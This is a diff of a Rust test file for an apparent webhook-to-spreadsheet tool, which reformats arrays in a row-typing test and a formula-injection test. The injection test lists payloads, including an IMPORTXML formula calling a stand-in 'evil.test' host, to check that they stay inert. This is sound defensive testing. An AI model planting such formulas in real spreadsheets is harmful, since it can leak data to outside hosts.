@@ -23,9 +23,24 @@ async fn an_event_is_a_row_of_typed_cells() {
     scene.done(&order("A-2")).await;
     assert_eq!(scene.called(), [GET, BATCH]);
     let sheet = scene.sheet();
-    let titles = ["Order", "Customer", "Total", "Paid", "At", "Line", "hookyard_delivery"];
+    let titles = [
+        "Order",
+        "Customer",
+        "Total",
+        "Paid",
+        "At",
+        "Line",
+        "hookyard_delivery",
+    ];
     assert_eq!(row(&sheet, 0, 8)[..7], titles.map(Value::from));
-    let wanted = [json!("A-1"), json!("Zoë 🦀"), json!(12.5), json!(true), json!(46_023.5), json!("shop A-1")];
+    let wanted = [
+        json!("A-1"),
+        json!("Zoë 🦀"),
+        json!(12.5),
+        json!(true),
+        json!(46_023.5),
+        json!("shop A-1"),
+    ];
     assert_eq!(row(&sheet, 1, 6), wanted);
     assert_eq!(sheet.cell(1, 4).shown(), "2026-01-01 12:00:00");
     assert_eq!(entered(&sheet, 1, 6), event["deliveries"][0]["id"]);
@@ -37,7 +52,14 @@ async fn an_event_is_a_row_of_typed_cells() {
 #[tokio::test(flavor = "multi_thread")]
 async fn a_webhook_cannot_put_a_formula_in() {
     let scene = Scene::appending().await;
-    let attacks = ["=IMPORTXML(\"http://evil.test\")", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"];
+    let attacks = [
+        "=IMPORTXML(\"http://evil.test\")",
+        "+1+1",
+        "-1+1",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+    ];
     for attack in attacks {
         let body = json!({"id": attack, "customer": attack, "total": attack, "paid": attack, "at": attack});
         scene.done(&body).await;
